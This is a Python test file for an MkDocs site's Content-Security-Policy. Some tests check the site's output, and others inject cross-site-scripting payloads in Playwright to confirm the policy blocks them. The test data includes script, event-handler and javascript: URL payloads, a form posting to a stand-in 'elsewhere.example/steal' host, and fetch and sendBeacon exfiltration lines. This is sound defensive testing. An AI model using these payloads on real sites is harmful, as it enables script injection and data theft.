"""The Content-Security-Policy of the built pages, and what else the output may hold: it lets the site work, and nothing more."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import ROOT, copy_of_repository, run_mkdocs, serving
from output_rules import PAGES, THEME, PageRules, refused, refused_file, refused_in_page, script_hash
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, expect
from test_comments_page import CLIENT, Double

DAY = "/days/day-08-energy/"
FORK = "https://amina.github.io/ml-dl-morocco/"
HASHES = frozenset(re.findall(r"'(sha256-[^']+)'", (ROOT / "overrides/partials/content_security_policy.html").read_text(encoding="utf-8")))
DIRECTIVES = {
    "default-src": {"'none'"}, "script-src": {"'self'", *(f"'{value}'" for value in HASHES)}, "style-src": {"'self'"}, "img-src": {"'self'", "data:"},
    "connect-src": {"'self'"}, "worker-src": {"'self'"}, "object-src": {"'none'"}, "base-uri": {"'none'"}, "form-action": {"'none'"},
}
GISCUS = {"https://giscus.app"}
WITH_GISCUS = DIRECTIVES | {
    "script-src": DIRECTIVES["script-src"] | GISCUS, "style-src": DIRECTIVES["style-src"] | GISCUS, "frame-src": GISCUS,
}
# Tells of every violation, from the first byte of a page on.
WATCH = "addEventListener('securitypolicyviolation', (e) => console.error('VIOLATION ' + e.effectiveDirective + ' ' + e.blockedURI))"


class Head(HTMLParser):
    """The tags of a page in order, up to its body."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html[: html.index("<body")])

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def metas(self, key: str) -> dict[str, str]:
        return {values[key]: values.get("content", "") for tag, values in self.tags if tag == "meta" and key in values}


def policy_of(html: str) -> dict[str, set[str]]:
    """Return the directives of a page. Its policy must be the first thing after the character set."""
    tags = Head(html).tags
    position = [tag for tag, _ in tags].index("head") + 1
    assert tags[position] == ("meta", {"charset": "utf-8"})
    assert tags[position + 1][1].get("http-equiv") == "Content-Security-Policy"
    parts = (part.split() for part in tags[position + 1][1]["content"].split(";"))
    return {name: set(sources) for name, *sources in parts}


def base_of(site: Path) -> str:
    """Return the address that a site was built for."""
    return next(values["href"] for tag, values in Head((site / "index.html").read_text(encoding="utf-8")).tags if values.get("rel") == "canonical")


def pages(site: Path) -> dict[str, str]:
    return {path.relative_to(site).as_posix(): path.read_text(encoding="utf-8") for path in sorted(site.rglob("*.html"))}


# --- The policy ----------------------------------------------------------------------------------------------------

def test_each_page_carries_the_policy_and_giscus_is_in_it_only_where_comments_are(site: Path, site_with_comments: Path) -> None:
    assert {'class="comments__place"' in html for html in pages(site_with_comments).values()} == {True, False}
    for built in (site, site_with_comments):
        for name, html in pages(built).items():
            assert policy_of(html) == (WITH_GISCUS if 'class="comments__place"' in html else DIRECTIVES), name


def test_the_list_of_hashes_is_that_of_the_inline_scripts(site: Path, site_with_comments: Path) -> None:
    inline = set()
    for html in (*pages(site).values(), *pages(site_with_comments).values()):
        page = PageRules(FORK, FORK, HASHES)
        page.feed(html)
        inline |= set(page.inline)
    found = {script_hash(text): text for text in inline}
    say = "\n".join(
        [f"Not on the list, so blocked in a browser: {value}\n  {found[value]}" for value in sorted(found.keys() - HASHES)]
        + [f"On the list, and on no page: {value}" for value in sorted(HASHES - found.keys())]
    )
    assert not say, (
        "The inline scripts of the pages and the list in overrides/partials/content_security_policy.html differ. After an upgrade of the "
        "theme: read each new script below, make sure that the theme wrote it, put its hash into the list and take out those that no page "
        f"has. Without an upgrade: somebody brought a script into a page; do not add its hash.\n{say}"
    )


def test_the_policy_is_short_enough_to_leave_the_character_set_where_browsers_look_for_it(site: Path) -> None:
    for name, html in pages(site).items():
        assert html.encode().index(b'<meta charset="utf-8">') < 1000, name


# What our overrides of the theme's parts were written against.
OVERRIDDEN = {
    "404.html": "sha256-gMk0lLVDKxvN8pLK62egZTxFs3Ny9J4IrUpwymladJU=",
    "main.html": "sha256-mUi1WnvJecNYJd+ZurqeaXH8pOspjeo83eYemQot5eA=",
    "partials/javascripts/base.html": "sha256-1hE3ErxN6zC0vYEO4N/Ci28E0viMwAFsDxdm6se3YrY=",
    "partials/source.html": "sha256-aEdhbWe+SSDTnCeMJ5m/ICIrvALuKoOTrKhePqpRh1I=",
}


@pytest.mark.parametrize("name", sorted(OVERRIDDEN))
def test_the_theme_still_has_the_parts_that_we_override(name: str) -> None:
    theirs = (THEME / name).read_text(encoding="utf-8")
    assert script_hash(theirs) == OVERRIDDEN[name], (
        f"The theme changed {name}, which overrides/{name} replaces. Compare the two, bring over what is new, and write "
        f"{script_hash(theirs)} into OVERRIDDEN in tests/test_content_security.py."
    )


def test_every_override_of_the_theme_is_watched() -> None:
    ours = {path.relative_to(ROOT / "overrides").as_posix() for path in (ROOT / "overrides").rglob("*.html")}
    assert {name for name in ours if (THEME / name).is_file()} - {"partials/comments.html"} == set(OVERRIDDEN)


# --- The head ------------------------------------------------------------------------------------------------------

def test_each_page_has_a_title_of_its_own_a_description_and_a_card(site_with_comments: Path) -> None:
    titles = []
    for name, html in pages(site_with_comments).items():
        titles += re.findall(r"<title>(.*?)</title>", html)
        head = Head(html)
        assert 50 <= len(head.metas("name")["description"]) <= 160, name
        assert '<html lang="en"' in html
        card = head.metas("property")
        if name == "404.html":
            assert not card
            continue
        address = FORK + name.removesuffix("index.html")
        assert ("link", {"rel": "canonical", "href": address}) in head.tags
        assert (card["og:url"], card["og:description"]) == (address, head.metas("name")["description"])
        assert (site_with_comments / card["og:image"].removeprefix(FORK)).is_file()
    assert len(titles) == len(set(titles)) == len(pages(site_with_comments))
    assert "ML &amp; DL Morocco Challenges" in titles and "Page not found - ML &amp; DL Morocco Challenges" in titles


def test_a_day_describes_itself_as_a_learning_resource(site: Path) -> None:
    found = re.findall(r'<script type="application/ld\+json">(.*?)</script>', (site / "days/day-08-energy/index.html").read_text(encoding="utf-8"))
    assert len(found) == 1
    assert json.loads(found[0])["name"] == "Day 8: Energy"
    assert json.loads(found[0])["timeRequired"] == "PT40M"


HOSTILE = "\"'></title></script><script>window.hit = 1</script><img src=x onerror=hit=2>&amp;"


def test_hostile_front_matter_stays_text_and_a_page_that_asks_for_no_comments_gets_no_giscus(tmp_path: Path) -> None:
    root, site = copy_of_repository(tmp_path / "copy"), tmp_path / "site"
    for name, lines in (("about.md", {"title": HOSTILE, "description": HOSTILE}), ("days/day-01-setting-the-stage.md", {"comments": {"enabled": False}}),
                        ("days/day-02-healthcare.md", {"title": HOSTILE, "description": HOSTILE, "comments": "yes"})):
        page = root / "docs" / name
        text = page.read_text(encoding="utf-8")
        for key, value in lines.items():
            before, _, rest = text.partition(f"\n{key}: ")
            text = f"{before}\n{key}: {json.dumps(value)}\n{rest.partition(chr(10))[2]}"
        page.write_text(text, encoding="utf-8")
    ran = run_mkdocs(root, site, "-q", GITHUB_REPOSITORY="amina/x", GISCUS_REPO_ID="R_1", GISCUS_CATEGORY="A", GISCUS_CATEGORY_ID="D_1")
    assert ran.returncode == 0, ran.stderr
    for name in ("about", "days/day-02-healthcare"):
        html = (site / name / "index.html").read_text(encoding="utf-8")
        head = html[: html.index("<body")]
        assert refused_in_page(head, HASHES) == [], name
        assert Head(html).metas("name")["description"] == Head(html).metas("property")["og:title"] == HOSTILE
    assert json.loads(re.findall(r"ld\+json\">(.*?)</script>", html)[0])["name"] == HOSTILE
    for number in ("01-setting-the-stage", "02-healthcare"):
        assert policy_of((site / f"days/day-{number}/index.html").read_text(encoding="utf-8")) == DIRECTIVES
    assert policy_of((site / "days/day-03-agriculture/index.html").read_text(encoding="utf-8")) == WITH_GISCUS


def test_a_preview_can_reload_and_no_build_can_ask_for_that(tmp_path: Path) -> None:
    import output
    from mkdocs.config import load_config

    settings = load_config(str(ROOT / "mkdocs.yml"))
    settings.extra["preview"] = True  # as a pull request would write it
    output.on_startup(command="build", dirty=False)
    output.on_config(settings)
    assert settings.extra["preview"] is False
    output.on_startup(command="serve", dirty=False)
    output.on_config(settings)
    assert settings.extra["preview"] is True
    output.on_startup(command="build", dirty=False)


# --- The output ----------------------------------------------------------------------------------------------------

def test_the_output_holds_nothing_that_is_not_on_the_lists(site: Path, site_with_comments: Path) -> None:
    assert refused(site, HASHES, base_of(site)) == []
    assert refused(site_with_comments, HASHES, FORK) == []


def test_nor_does_a_browser_read_anything_else_into_the_pages(site: Path, browser: Browser) -> None:
    """The same rules on what Chromium's own parser makes of each page, in case Python's reads some broken markup in another way."""
    page = browser.new_page()
    for name, html in pages(site).items():
        read = page.evaluate("(html) => new DOMParser().parseFromString(html, 'text/html').documentElement.outerHTML", html)
        assert refused_in_page(read, HASHES, name, base_of(site)) == [], name
    page.close()


@pytest.mark.parametrize("html", [
    "<script>alert(1)</script>", "<script src='https://elsewhere.example/x.js'></script>", "<script src='data/day-08-x.csv'></script>",
    "<script src='assets/javascripts/comments.js' onload='x()'></script>", "<script type='module'>x()</script>", "<script type='text/plain'>x</script>",
    "<svg><script>x()</script></svg>", "<img src='a.png' onerror='x()'>", "<svg onload='x()'></svg>", "<details ontoggle=x() open>", "<p style='top:0'>",
    "<style>p{}</style>", "<iframe src='x.html'></iframe>", "<iframe srcdoc='x'></iframe>", "<frameset>", "<object data='x.svg'></object>",
    "<embed src='x.svg'>", "<base href='https://elsewhere.example/'>", "<form action='https://elsewhere.example/'></form>", "<form></form>",
    "<form class='md-search__form' name='search' action='x'></form>", "<button formaction='x'>", "<meta http-equiv='refresh' content='0;url=x'>",
    "<a href='javascript:x()'>", "<a href=' java\tscript:x()'>", "<a href='&#106;avascript:x()'>", "<a href='JAVASCRIPT:x()'>", "<a href='data:text/html,x'>",
    "<a href='vbscript:x'>", "<a href='file:///etc/passwd'>", "<a href='blob:x'>", "<a href='x' ping='https://elsewhere.example/'>",
    "<svg><a xlink:href='javascript:x()'></a></svg>", "<svg><use href='https://elsewhere.example/x.svg#a'></use></svg>", "<img src='https://elsewhere.example/x.png'>",
    "<img src='//elsewhere.example/x.png'>", "<img src='/x.png'>", "<img srcset='https://elsewhere.example/x.png 2x'>", "<img src='data:image/png;base64,AA=='>",
    "<video poster='https://elsewhere.example/x.png'></video>", "<audio src='x.ogg'></audio>", "<input type='image' src='https://elsewhere.example/x.png'>",
    "<body background='https://elsewhere.example/x.png'>", "<link rel='stylesheet' href='https://elsewhere.example/x.css'>",
    "<link rel='stylesheet' href='data/x.css'>", "<link rel='preconnect' href='https://elsewhere.example/'>", "<link rel='manifest' href='x.json'>",
    "<link rel='canonical stylesheet' href='https://elsewhere.example/x.css'>", "<link rel='import' href='x.html'>", "<!-- a private note -->",
    "<math><mtext></mtext></math>", "<template><p></template>", "<portal src='x'>", "<applet code='x'>",
])
def test_the_walker_refuses(html: str) -> None:
    assert refused_in_page(f"<p>before</p>{html}", HASHES, "index.html", "http://site.invalid/folder/"), html


def test_the_walker_lets_good_pages_be() -> None:
    good = ("<a href='https://example.org/'><a href='mailto:a@b.c'><a href='../x/#y'><img src='assets/images/mark.svg' alt=''>"
            "<script type='application/json'>{}</script><link rel='canonical' href='https://elsewhere.example/'><details open><summary>x</summary></details>")
    assert refused_in_page(good) == []


@pytest.mark.parametrize(("name", "content"), [
    ("tool.exe", b"MZ"), ("secrets.json", b"{}"), ("page.html", b"<p>"), ("days/day-13/index.html", b"<p>"), ("CNAME", b"x"), ("robots.txt", b"x"),
    ("google123.html", b"x"), ("assets/images/plan.svg", b"<svg/>"), ("assets/javascripts/extra.js", b"x"), ("assets/images/photo.png", b"<svg>"),
    ("assets/javascripts/bundle.min.js", b"x"), ("assets/stylesheets/main.css", b"x"), ("data/day-08-x.csv.exe", b"x"), ("challenges/setup.py", b"x"),
    ("assets/javascripts/bundle.a5f9d56c.min.js.map", b"{}"), (".env", b"x"), ("sw.js", b"x"),
])
def test_a_file_that_is_not_on_the_list_is_refused(tmp_path: Path, name: str, content: bytes) -> None:
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    assert refused_file(tmp_path, path)


def test_a_file_in_place_of_one_of_the_themes_is_refused_and_so_is_a_link(site: Path, tmp_path: Path) -> None:
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    bundle = next(copy.glob("assets/javascripts/bundle.*.js"))
    assert refused_file(copy, bundle) is None
    bundle.write_bytes(bundle.read_bytes() + b"\nx()")
    (copy / "data" / "day-08-link.csv").symlink_to("/etc/hostname")
    faults = refused(copy, HASHES, base_of(site))
    assert len(faults) == 2 and "not the theme's own" in faults[0] and "not a plain file" in faults[1]


def test_only_what_the_search_can_ask_for_is_left_of_its_stemmers(site: Path) -> None:
    import output

    assert not list(site.rglob("lunr*")) and not list(site.rglob("*.map"))
    kept = [name for name in ("min/lunr.stemmer.support.min.js", "min/lunr.multi.min.js", "min/lunr.fr.min.js", "min/lunr.ar.min.js", "min/lunr.de.min.js",
                              "tinyseg.js", "wordcut.js") if output.is_needed(output.STEMMERS + name, ["en", "fr", "ar"])]
    assert kept == ["min/lunr.stemmer.support.min.js", "min/lunr.multi.min.js", "min/lunr.fr.min.js", "min/lunr.ar.min.js"]
    assert output.is_needed(output.STEMMERS + "tinyseg.js", ["ja"]) and output.is_needed(output.STEMMERS + "wordcut.js", ["th"])
    assert re.fullmatch(PAGES, "index.html")


# --- In a browser --------------------------------------------------------------------------------------------------

class Watched:
    """A context in which each violation, and each error in a script, is written down."""

    def __init__(self, browser: Browser) -> None:
        self.context: BrowserContext = browser.new_context(viewport={"width": 1280, "height": 800}, color_scheme="light")
        self.context.set_default_timeout(8000)
        self.context.add_init_script(WATCH)
        self.context.grant_permissions(["clipboard-read", "clipboard-write"])
        self.seen: list[str] = []
        self.context.on("console", self.note)
        self.context.on("weberror", lambda error: self.seen.append(f"error: {error.error}"))

    def note(self, message: ConsoleMessage) -> None:
        if "VIOLATION" in message.text or "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            self.seen.append(message.text)


@pytest.fixture
def watched(browser: Browser) -> Iterator[Watched]:
    watched = Watched(browser)
    yield watched
    watched.context.close()


def search(page: Page, word: str) -> None:
    page.keyboard.press("/")
    page.keyboard.type(word)
    result = page.locator(".md-search-result__link").first
    expect(result).to_be_visible()
    page.keyboard.press("Enter")
    page.wait_for_url("**/?h=*")
    expect(page.locator("mark").first).to_be_attached()


def toggle_palette_twice(page: Page) -> None:
    seen = set()
    for _ in range(3):
        page.locator(".md-header__option label:not([hidden])").click()
        seen.add(page.evaluate("document.body.dataset.mdColorScheme"))
    assert seen == {"default", "slate"}


def read_comments(page: Page) -> None:
    page.locator("#comments").scroll_into_view_if_needed()
    expect(page.frame_locator(".comments iframe").locator("#theme")).to_have_text(re.compile("light|dark"))


def test_the_whole_journey_without_one_violation(watched: Watched, site_with_comments: Path, tmp_path: Path) -> None:
    """As a project page on GitHub Pages: in a folder of the origin."""
    (tmp_path / "ml-dl-morocco").symlink_to(site_with_comments)
    Double(watched.context)
    page = watched.context.new_page()
    with serving(tmp_path) as origin:
        home = origin + "/ml-dl-morocco"
        for name in pages(site_with_comments):
            page.goto(f"{home}/{name}")
            page.wait_for_function("document.querySelector('html.js') !== null")
            expect(page.locator("h1").first).to_be_visible()
        toggle_palette_twice(page)
        page.goto(home + "/404.html")
        page.get_by_role("link", name="twelve days").click()
        page.wait_for_url(home + "/")
        search(page, "desalination")
        page.goto(home + DAY)
        assert page.locator(".chart svg").first.bounding_box()
        page.locator(".highlight").first.hover()
        page.locator(".highlight button, .highlight .md-clipboard").first.click()
        expect(page.locator(".md-dialog")).to_contain_text("Copied")
        assert "WIND_FARM" in page.evaluate("navigator.clipboard.readText()")
        page.locator("article [title]").first.hover()
        page.locator("details > summary").first.click()
        page.locator(".footnote-ref").first.click()
        read_comments(page)
        page.emulate_media(media="print", color_scheme="dark")
        page.evaluate("dispatchEvent(new Event('beforeprint'))")
        page.emulate_media(media="screen")
        page.get_by_role("link", name="Next: Day 9").click()
        expect(page.locator(".md-content h1")).to_contain_text("Water")
        page.set_viewport_size({"width": 360, "height": 700})
        page.locator("label[for=__drawer].md-header__button").click()
        expect(page.locator(".md-nav--primary")).to_be_in_viewport()
    assert watched.seen == []


def test_instant_navigation_without_one_violation(watched: Watched, tmp_path: Path) -> None:
    root, built = copy_of_repository(tmp_path / "copy"), tmp_path / "site"
    built.mkdir()
    settings = root / "mkdocs.yml"
    settings.write_text(settings.read_text(encoding="utf-8").replace("  features:\n", "  features:\n    - navigation.instant\n"), encoding="utf-8")
    Double(watched.context, "{" + CLIENT + "}")  # in a block of its own: it runs twice in the same document
    with serving(built) as origin:
        ran = run_mkdocs(root, built, "--strict", GITHUB_REPOSITORY="amina/x", GISCUS_REPO_ID="R_1", GISCUS_CATEGORY="A",
                         GISCUS_CATEGORY_ID="D_1", SITE_URL=f"{origin}/")
        assert ran.returncode == 0, ran.stdout + ran.stderr
        page = watched.context.new_page()
        page.goto(origin + "/")
        page.evaluate("window.sameDocument = true")
        search(page, "federated")
        page.get_by_role("link", name="Previous: ").click()
        expect(page.locator(".md-content h1")).to_be_visible()
        toggle_palette_twice(page)
        page.goto(origin + "/")
        page.evaluate("window.sameDocument = true")
        page.locator(".days").get_by_role("link", name="Energy").click()
        expect(page.locator(".md-content h1")).to_contain_text("Energy")
        read_comments(page)
        page.get_by_role("link", name="Next: ").click()
        expect(page.locator(".md-content h1")).to_contain_text("Water")
        read_comments(page)
        assert page.evaluate("window.sameDocument") is True, "the pages were loaded anew: the test would prove nothing"
    assert watched.seen == []


def test_the_runtime_of_the_challenges_may_start_in_a_worker(watched: Watched, site: Path, tmp_path: Path) -> None:
    if not (site / "assets/micropython/micropython.mjs").is_file():
        (pytest.fail if shutil.which("npm") else pytest.skip)("The runtime comes with npm: run `python dev.py test`.")
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    (copy / "worker.js").write_text(
        "import { loadMicroPython } from './assets/micropython/micropython.mjs';"
        "const python = await loadMicroPython({ stdout: (line) => postMessage(line) }); python.runPython('print(6 * 7)');", encoding="utf-8")
    with serving(copy) as origin:
        page = watched.context.new_page()
        page.goto(origin + DAY)
        said = page.evaluate("""() => new Promise((resolve, reject) => {
            const worker = new Worker("../../worker.js", { type: "module" });
            worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => reject(new Error("the worker did not start"));
        })""")
    assert said.strip() == "42"
    assert watched.seen == []


@dataclass
class Attack:
    """Markup that does harm: `lands` is what shows it in the page (a request to elsewhere shows it by itself)."""

    markup: str
    directive: str
    act: str = "null"
    lands: str = "window.hit === 1"


EVIL = "https://elsewhere.example"
ATTACKS = {
    "an inline script": Attack("<script>hit = 1</script>", "script-src-elem"),
    "an event handler": Attack("<img src='../../assets/images/mark.svg' onload='hit = 1'>", "script-src-attr"),
    "a handler in an SVG": Attack("<svg onload='hit = 1'></svg>", "script-src-attr"),
    "a javascript: link": Attack("<a id=it href='javascript:hit=1;void 0'>x</a>", "script-src-elem", "it.click()"),
    "a script from elsewhere": Attack(f"<script src='{EVIL}/x.js'></script>", "script-src-elem"),
    "a script from giscus on a page without comments": Attack("<script src='https://giscus.app/client.js'></script>", "script-src-elem"),
    "a module from data:": Attack("<script type=module src='data:text/javascript,window.hit=1'></script>", "script-src-elem"),
    "text run as a script": Attack("", "script-src", "void setTimeout('hit = 1')"),
    "a style sheet from elsewhere": Attack(f"<link rel=stylesheet href='{EVIL}/x.css'>", "style-src-elem"),
    "an inline style sheet": Attack("<style>h1 { display: none }</style>", "style-src-elem", lands="getComputedStyle(document.querySelector('h1')).display === 'none'"),
    "a style attribute": Attack("<p id=it style='position: fixed'>x</p>", "style-src-attr", lands="getComputedStyle(it).position === 'fixed'"),
    "a frame": Attack(f"<iframe src='{EVIL}/x.html'></iframe>", "frame-src"),
    "a frame with its page in it": Attack("<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>", "script-src-elem"),
    "a form": Attack(f"<form id=it action='{EVIL}/steal'><input name=q value=1></form>", "form-action", "it.submit()"),
    "an object": Attack(f"<object data='{EVIL}/x.html'></object>", "object-src"),
    "an embedded file": Attack(f"<embed src='{EVIL}/x.html'>", "object-src"),
    "another base": Attack(f"<base href='{EVIL}/'>", "base-uri", lands="document.baseURI.startsWith('https://elsewhere')"),
    "a picture from elsewhere": Attack(f"<img src='{EVIL}/x.png'>", "img-src"),
    "a film from elsewhere": Attack(f"<video src='{EVIL}/x.mp4'></video>", "media-src"),
    "a call to elsewhere": Attack("", "connect-src", f"void fetch('{EVIL}/x', {{mode: 'no-cors'}}).catch(() => 0)"),
    "a beacon to elsewhere": Attack("", "connect-src", f"void navigator.sendBeacon('{EVIL}/x', 'data')"),
    "a worker out of thin air": Attack("", "worker-src", "void (() => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => { hit = 1 } })()"),
}


def attacked(browser: Browser, folder: Path, name: str) -> tuple[bool, list[str]]:
    """Open the page with the attack in it. Return whether it landed, and the directives that were violated."""
    attack, asked, watched = ATTACKS[name], [], Watched(browser)
    watched.context.route(re.compile("elsewhere.example|giscus.app"), lambda route: (asked.append(route.request.url), route.fulfill(body=""))[0])  # type: ignore[func-returns-value]
    page = watched.context.new_page()
    with serving(folder) as origin:
        page.goto(origin + "/about/", wait_until="domcontentloaded")
        # As a script of the page would do it: what Playwright evaluates stands outside the policy.
        page.evaluate(f"() => {{ try {{ {attack.act} }} catch (_) {{ 0 }} }}")
        page.wait_for_timeout(500)
        landed = bool(asked) or (page.url.startswith(origin) and page.evaluate(attack.lands) is True)
    watched.context.close()
    return landed, [line.split()[1] for line in watched.seen if line.startswith("VIOLATION")]


@pytest.mark.parametrize("name", ATTACKS)
def test_the_policy_blocks(browser: Browser, site: Path, tmp_path: Path, name: str) -> None:
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    page = copy / "about" / "index.html"  # a page without comments
    html = page.read_text(encoding="utf-8").replace("</article>", ATTACKS[name].markup + "</article>")
    page.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html), encoding="utf-8")
    landed, violated = attacked(browser, copy, name)
    assert landed and not violated, "without the policy this attack must land, or the test proves nothing"
    page.write_text(html, encoding="utf-8")
    landed, violated = attacked(browser, copy, name)
    assert not landed and ATTACKS[name].directive in violated
